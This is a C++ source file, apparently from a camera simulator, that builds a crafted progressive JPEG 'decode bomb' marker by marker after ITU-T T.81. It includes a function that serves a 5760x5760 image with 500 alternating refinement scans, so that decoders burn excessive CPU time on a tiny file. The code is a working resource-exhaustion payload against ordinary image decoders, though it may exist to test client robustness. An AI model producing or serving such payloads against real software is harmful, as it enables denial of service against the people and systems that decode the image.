// The decode-bomb picture (see decode_bomb.h), written marker by marker after ITU-T T.81: SOF2
// (B.2.2), DHT (B.2.4.2), SOS (B.2.3), and the progressive entropy coding of G.1.2: a DC first
// scan codes each block's difference with the category-0 code, an AC first scan codes runs of
// blocks with nothing left in the band as EOBn symbols (G.1.2.2, Table G.1: EOBn covers 2^n to
// 2^(n+1) - 1 blocks, the count less 2^n following in n bits).
#include "decode_bomb.h"

#include <algorithm>

namespace camsim {

namespace {

// MSB-first bit writer of entropy-coded data, with 0xFF stuffing (F.1.2.3) and 1-bit padding.
class BitWriter
{
public:
    explicit BitWriter(std::vector<std::uint8_t>& out) : m_out(out) {}
    void put(std::uint32_t bits, int count)
    {
        for (int i = count - 1; i >= 0; --i) {
            m_byte = static_cast<std::uint8_t>((m_byte << 1) | ((bits >> i) & 1));
            if (++m_filled == 8)
                flushByte();
        }
    }
    void finish()
    {
        while (m_filled != 0)
            put(1, 1);
    }

private:
    void flushByte()
    {
        m_out.push_back(m_byte);
        if (m_byte == 0xFF)
            m_out.push_back(0x00);
        m_byte = 0;
        m_filled = 0;
    }
    std::vector<std::uint8_t>& m_out;
    std::uint8_t m_byte = 0;
    int m_filled = 0;
};

void marker(std::vector<std::uint8_t>& out, std::uint8_t code, const std::vector<std::uint8_t>& body)
{
    const std::size_t length = body.size() + 2;
    out.insert(out.end(),
               {0xFF, code, static_cast<std::uint8_t>(length >> 8), static_cast<std::uint8_t>(length)});
    out.insert(out.end(), body.begin(), body.end());
}

// SOS of the single component: spectral selection ss..se, successive approximation `ahAl` (Ah in
// the high nibble), DC table 0 and AC table 0.
void scanHeader(std::vector<std::uint8_t>& out, std::uint8_t ss, std::uint8_t se, std::uint8_t ahAl)
{
    marker(out, 0xDA, {1, 1, 0x00, ss, se, ahAl});
}

} // namespace

std::vector<std::uint8_t> decodeBombJpeg(int width, int height, int acScans)
{
    if (width < 8 || height < 8 || width > 65528 || height > 65528 || width % 8 || height % 8 || acScans < 0)
        return {};
    const std::uint64_t blocks =
        static_cast<std::uint64_t>(width / 8) * static_cast<std::uint64_t>(height / 8);
    std::vector<std::uint8_t> out = {0xFF, 0xD8};

    std::vector<std::uint8_t> dqt(65, 1); // table 0, 8-bit entries, all 1
    dqt[0] = 0;
    marker(out, 0xDB, dqt);
    marker(out, 0xC2,
           {8, static_cast<std::uint8_t>(height >> 8), static_cast<std::uint8_t>(height),
            static_cast<std::uint8_t>(width >> 8), static_cast<std::uint8_t>(width), 1, 1, 0x11, 0});
    // DC table 0: category 0 alone, code "0". AC table 0: the fifteen symbols EOB0..EOB14
    // (0x00, 0x10, ... 0xE0), four bits each, so that EOBn has the code n.
    std::vector<std::uint8_t> dht = {0x00, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x00};
    dht.insert(dht.end(), {0x10, 0, 0, 0, 15, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0});
    for (std::uint8_t n = 0; n < 15; ++n)
        dht.push_back(static_cast<std::uint8_t>(n << 4));
    marker(out, 0xC4, dht);

    scanHeader(out, 0, 0, 0x00);
    {
        BitWriter bits(out);
        for (std::uint64_t b = 0; b < blocks; ++b)
            bits.put(0, 1);
        bits.finish();
    }
    for (int scan = 0; scan < acScans; ++scan) {
        // First scans at Al = 1 and refinements to Al = 0 take turns; each refinement visits
        // every coefficient of every block (G.1.2.3), which is where the time goes.
        scanHeader(out, 1, 63, scan % 2 == 0 ? 0x01 : 0x10);
        BitWriter bits(out);
        for (std::uint64_t left = blocks; left > 0;) {
            const std::uint64_t run = std::min<std::uint64_t>(left, 32767);
            int n = 0;
            while ((std::uint64_t{2} << n) <= run)
                ++n;
            bits.put(static_cast<std::uint32_t>(n), 4);
            if (n > 0)
                bits.put(static_cast<std::uint32_t>(run - (std::uint64_t{1} << n)), n);
            left -= run;
        }
        bits.finish();
    }
    out.insert(out.end(), {0xFF, 0xD9});
    return out;
}

const std::vector<std::uint8_t>& servedDecodeBomb()
{
    static const std::vector<std::uint8_t> bomb = decodeBombJpeg(5760, 5760, 500);
    return bomb;
}

} // namespace camsim
